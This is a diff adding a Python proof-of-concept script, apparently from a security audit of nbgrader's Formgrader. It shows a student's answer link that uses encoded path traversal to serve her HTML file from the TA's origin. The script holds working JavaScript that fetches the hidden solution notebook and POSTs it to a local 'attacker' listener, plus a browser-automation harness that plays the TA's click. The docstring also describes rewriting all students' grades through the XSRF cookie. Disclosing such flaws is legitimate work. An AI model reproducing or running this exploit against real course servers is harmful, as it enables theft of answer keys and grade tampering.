@@ -1,0 +1,75 @@
+"""a20's click used to READ what is hidden instead: the page fetches the solution notebook (source/) through
+the same traversal and sends it to a host of the student's (here a listener on 127.0.0.1:18951 standing for it).
+In the repository layout (course folder = checkout, as `make lab` runs) autograders/ (quiz keys) is under the root too.
+a19 end to end, as a student can do it: Formgrader serves the TA's grading page at /formgrader/submissions/<id>/
+(it redirects to the trailing slash), so a RELATIVE link in a written answer carries the id by itself. mallory hands in
+figure.html beside her notebook and writes `[see the plot](..%2f..%2f..%2fsubmitted%2fmallory%2fps1_memory%2ffigure.html)`.
+The link survives the sanitiser; SubmissionFilesHandler unquotes it and serves submitted/mallory/.../figure.html from
+the TA's origin with no sandbox. The TA opens mallory's page in Formgrader and clicks the link once: the page's
+script reads the _xsrf cookie and, through Formgrader's API, gives mallory full marks on every cell and every other
+student zero. grades.csv is then rewritten by the next `grade` run (nothing regraded)."""
+from lib import *
+import urllib.request, secrets, socket, sqlite3
+A = "ps1_memory"
+d = make_course("a25")
+hand_in(d, "aaron", A, honest(A))
+nb = honest(A)
+LINK = "..%2f..%2f..%2fsubmitted%2fmallory%2fps1_memory%2ffigure.html"
+for c in nb.cells:
+    if c.metadata.get("nbgrader", {}).get("grade_id") == "written_ddp_fit":
+        c.source = f"Short answer; the details are in [see the plot]({LINK})."
+HTML = r"""<html><body><p>Loading the plot...</p><script>
+(async () => {
+  const base = location.pathname.split('/').slice(0, 4).join('/');
+  const sol = await (await fetch(base + '/..%2f..%2f..%2fsource%2fps1_memory%2fps1_memory.ipynb')).text();
+  await fetch('http://127.0.0.1:18951/steal', {method: 'POST', mode: 'no-cors', body: sol});
+  document.body.insertAdjacentHTML('beforeend', '<p id=done>DONE sent ' + sol.length + ' bytes</p>');
+})().catch(e => document.body.insertAdjacentHTML('beforeend', '<p id=done>ERR ' + e + '</p>'));
+</script></body></html>"""
+hand_in(d, "mallory", A, nb, extra={"figure.html": HTML})
+hand_in(d, "zoe", A, honest(A))
+grade(d, A)
+os.system(f"echo BEFORE; cat {d}/grades.csv")
+g = nbformat.read(f"{d}/autograded/mallory/{A}/{A}.ipynb", as_version=4)
+print("GRADED ANSWER:", [c.source for c in g.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "written_ddp_fit"])
+nid = sqlite3.connect(f"{d}/gradebook.db").execute("select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id=a.id where a.student_id='mallory'").fetchone()[0]
+tok = secrets.token_hex(8); port = 18943
+import http.server, threading
+GOT = []
+class Thief(http.server.BaseHTTPRequestHandler):
+    def do_POST(self):
+        GOT.append(self.rfile.read(int(self.headers.get('Content-Length', 0))))
+        self.send_response(204); self.end_headers()
+    def log_message(self, *a): pass
+thief = http.server.HTTPServer(("127.0.0.1", 18951), Thief); threading.Thread(target=thief.serve_forever, daemon=True).start()
+srv = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "server",
+                        f"--ServerApp.root_dir={d}", f"--IdentityProvider.token={tok}", f"--port={port}", "--no-browser",
+                        "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}"],
+                       env=dict(ENV, PYTHONSAFEPATH="1", HOME="/tmp", DISTCOURSE_JUDGE="kernel", PYTHONPATH=CLONE),
+                       stdout=open("/tmp/a25-server.log", "w"), stderr=subprocess.STDOUT, cwd=d)
+try:
+    for _ in range(60):
+        try: socket.create_connection(("127.0.0.1", port), 1).close(); break
+        except OSError: time.sleep(0.5)
+    time.sleep(2)
+    from playwright.sync_api import sync_playwright
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
+        page = b.new_page()
+        page.goto(f"http://127.0.0.1:{port}/formgrader?token={tok}")          # the TA logs in
+        page.goto(f"http://127.0.0.1:{port}/formgrader/submissions/{nid}")    # opens mallory's submission to grade it
+        print("TA PAGE", page.url)
+        link = page.locator("a", has_text="see the plot")
+        print("LINK href:", link.get_attribute("href"))
+        link.click()                                                          # one click
+        page.wait_for_selector("#done", timeout=30000)
+        print("AFTER CLICK url", page.url, "|", page.locator("#done").inner_text())
+        b.close()
+finally:
+    srv.terminate(); srv.wait(10)
+time.sleep(1); thief.shutdown()
+print("ATTACKER RECEIVED", [len(g) for g in GOT], "| holds BEGIN SOLUTION:", any(b"BEGIN SOLUTION" in g for g in GOT), "| holds hidden tests:", any(b"BEGIN HIDDEN TESTS" in g for g in GOT))
+con = sqlite3.connect(f"{d}/gradebook.db")
+print("GRADEBOOK", con.execute("select a.student_id, sum(coalesce(g.manual_score, g.auto_score, 0)) from grade g join submitted_notebook n on g.notebook_id=n.id join submitted_assignment a on n.assignment_id=a.id group by 1").fetchall())
+grade(d, A)
+os.system(f"echo AFTER; cat {d}/grades.csv")
